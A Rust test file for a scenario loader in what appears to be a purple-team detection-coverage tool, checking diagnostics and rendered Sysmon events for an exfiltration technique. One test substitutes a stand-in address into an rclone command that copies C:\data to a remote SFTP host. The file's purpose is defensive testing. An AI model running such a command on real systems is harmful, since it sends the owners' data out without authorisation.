//! Loading and checking scenario files: every problem is a diagnostic with file and line, and a bad
//! record does not stop the rest.

use purplecov::scenario::{self, render};
use purplecov::telemetry::Value;
use std::path::Path;

const MINIMAL: &str = include_str!("fixtures/scenarios/minimal.yaml");

fn parse(text: &str) -> (Option<scenario::Scenario>, Vec<String>) {
    let (s, d) = scenario::parse(Path::new("t.yaml"), text);
    (s, d.iter().map(|d| d.to_string()).collect())
}

fn only(text: &str) -> Vec<String> {
    parse(text).1
}

/// The 1-based line of the first line of `text` containing `needle`.
fn line_of(text: &str, needle: &str) -> usize {
    text.lines().position(|l| l.contains(needle)).unwrap() + 1
}

#[test]
fn the_minimal_scenario_loads_clean() {
    let (s, d) = parse(MINIMAL);
    assert!(d.is_empty(), "{d:#?}");
    let s = s.unwrap();
    assert_eq!(s.id, "T1048.002-9");
    assert_eq!(s.telemetry.len(), 1);
    let r = &s.telemetry[0];
    assert_eq!(
        (r.at_us, r.sensor.as_str(), r.kind.as_str()),
        (500_000, "sysmon", "1")
    );
    assert_eq!(r.line, line_of(MINIMAL, "- at: 0.5"));
}

#[test]
fn an_unknown_top_level_key_is_named_with_its_line() {
    let text = MINIMAL.replace(
        "tactic: exfiltration\n",
        "tactic: exfiltration\ntactics: [x]\n",
    );
    let d = only(&text);
    assert_eq!(d.len(), 1, "{d:#?}");
    assert!(
        d[0].starts_with(&format!(
            "t.yaml:{}: error: unknown key `tactics`",
            line_of(&text, "tactics:")
        )),
        "{}",
        d[0]
    );
}

#[test]
fn a_missing_required_key_is_reported() {
    let text = MINIMAL.replace("tactic: exfiltration\n", "");
    let d = only(&text);
    assert!(
        d.iter()
            .any(|x| x.contains("missing required key `tactic`")),
        "{d:#?}"
    );
}

#[test]
fn placeholders_follow_arts_rule() {
    let undeclared = MINIMAL.replace(
        "sftp://#{remote_host}/upload\n  elevation",
        "sftp://#{remote_hots}/upload\n  elevation",
    );
    let d = only(&undeclared);
    assert!(
        d.iter()
            .any(|x| x.contains("`#{remote_hots}` is used in a command but not declared")),
        "{d:#?}"
    );
    // ... and remote_host is now declared but unused by any command.
    assert!(
        d.iter()
            .any(|x| x.contains("argument `remote_host` is declared but no command uses")),
        "{d:#?}"
    );
}

#[test]
fn a_telemetry_placeholder_must_be_declared() {
    let text = MINIMAL.replace("ParentUser: CORP\\j.doe", "ParentUser: '#{who}'");
    let d = only(&text);
    assert_eq!(d.len(), 1, "{d:#?}");
    assert!(
        d[0].contains(&format!("t.yaml:{}:", line_of(&text, "ParentUser:"))),
        "{}",
        d[0]
    );
    assert!(
        d[0].contains("uses `#{who}`, which is not declared"),
        "{}",
        d[0]
    );
}

#[test]
fn bad_time_offsets_are_reported() {
    for (at, want) in [
        ("-1", "`at` must be seconds after `start`"),
        ("soon", "`at` must be a number of seconds"),
    ] {
        let text = MINIMAL.replace("- at: 0.5", &format!("- at: {at}"));
        let d = only(&text);
        assert!(d.iter().any(|x| x.contains(want)), "{at}: {d:#?}");
    }
    // Going back in time: a second record earlier than the first.
    let record = &MINIMAL[MINIMAL.find("  - at: 0.5").unwrap()..];
    let text = format!("{MINIMAL}{}", record.replace("- at: 0.5", "- at: 0.25"));
    let d = only(&text);
    assert!(
        d.iter().any(|x| x.contains("`at` 0.25 goes back in time")),
        "{d:#?}"
    );
}

#[test]
fn unknown_sensors_event_ids_and_fields_are_reported_with_their_lines() {
    let d = only(&MINIMAL.replace("sensor: sysmon", "sensor: sysmom"));
    assert!(
        d.iter().any(|x| x.contains("unknown sensor `sysmom`")),
        "{d:#?}"
    );

    let d = only(&MINIMAL.replace("event_id: 1\n", "event_id: 9999\n"));
    assert!(
        d.iter()
            .any(|x| x.contains("sensor `sysmon` has no event_id `9999`")),
        "{d:#?}"
    );

    let text = MINIMAL.replace(
        "      RuleName: '-'\n",
        "      RuleName: '-'\n      CommandLineX: x\n",
    );
    let d = only(&text);
    assert_eq!(d.len(), 1, "{d:#?}");
    assert!(
        d[0].starts_with(&format!("t.yaml:{}:", line_of(&text, "CommandLineX"))),
        "{}",
        d[0]
    );
    assert!(
        d[0].contains("`CommandLineX` is not a field sysmon writes for event_id 1"),
        "{}",
        d[0]
    );
}

#[test]
fn derived_fields_are_rejected_and_always_written_fields_required() {
    let d = only(&MINIMAL.replace(
        "      RuleName: '-'\n",
        "      RuleName: '-'\n      UtcTime: '2026-01-01 00:00:00.000'\n",
    ));
    assert!(
        d.iter()
            .any(|x| x.contains("`UtcTime` is derived by the renderer")),
        "{d:#?}"
    );

    let d = only(&MINIMAL.replace(
        "      ProcessGuid: '{5c6f0a1b-2d3e-65f2-8a04-000000001e00}'\n",
        "",
    ));
    assert!(
        d.iter()
            .any(|x| x.contains("always writes `ProcessGuid`, which is missing")),
        "{d:#?}"
    );
}

#[test]
fn a_bad_record_is_dropped_and_the_others_kept() {
    let record = &MINIMAL[MINIMAL.find("  - at: 0.5").unwrap()..];
    let text = format!(
        "{MINIMAL}{}",
        record
            .replace("- at: 0.5", "- at: 2")
            .replace("sensor: sysmon", "sensor: nope")
    );
    let (s, d) = parse(&text);
    assert_eq!(d.len(), 1, "{d:#?}");
    assert_eq!(s.unwrap().telemetry.len(), 1);
}

#[test]
fn invalid_yaml_is_located() {
    let d = only("id: [unclosed\nname: x\n");
    assert_eq!(d.len(), 1);
    assert!(d[0].starts_with("t.yaml:"), "{}", d[0]);
    assert!(d[0].contains("invalid YAML"), "{}", d[0]);
}

#[test]
fn arguments_override_command_and_telemetry() {
    let (s, _) = parse(MINIMAL);
    let s = s.unwrap();
    let args = s
        .arguments_with(&[("remote_host".into(), "203.0.113.7".into())])
        .unwrap();
    assert_eq!(
        scenario::substitute(&s.executor.command, &args),
        r"rclone.exe copy C:\data sftp://203.0.113.7/upload"
    );
    let (events, diags) = render::events(&s, &args);
    assert!(diags.is_empty(), "{diags:#?}");
    assert_eq!(events.len(), 1);
    let cmd = events[0]
        .fields
        .iter()
        .find(|(k, _)| k == "CommandLine")
        .unwrap();
    assert_eq!(
        cmd.1,
        Value::Str(r"rclone.exe copy C:\data sftp://203.0.113.7/upload".into())
    );
    assert!(s.arguments_with(&[("nope".into(), "x".into())]).is_err());
}

#[test]
fn derived_values_come_from_start_host_and_sensor() {
    let (s, _) = parse(MINIMAL);
    let s = s.unwrap();
    let (events, diags) = render::events(&s, &s.arguments_with(&[]).unwrap());
    assert!(diags.is_empty(), "{diags:#?}");
    let get = |k: &str| {
        events[0]
            .fields
            .iter()
            .find(|(n, _)| n == k)
            .map(|(_, v)| v.to_string())
            .unwrap_or_default()
    };
    assert_eq!(get("UtcTime"), "2026-03-14 09:26:53.620");
    assert_eq!(
        get("TimeCreated_SystemTime"),
        "2026-03-14T09:26:53.6200000Z"
    );
    assert_eq!(get("Computer"), "WS-TEST-01.corp.example.com");
    assert_eq!(get("Channel"), "Microsoft-Windows-Sysmon/Operational");
    assert_eq!(get("EventID"), "1");
    assert_eq!(get("Provider_Name"), "Microsoft-Windows-Sysmon");
}
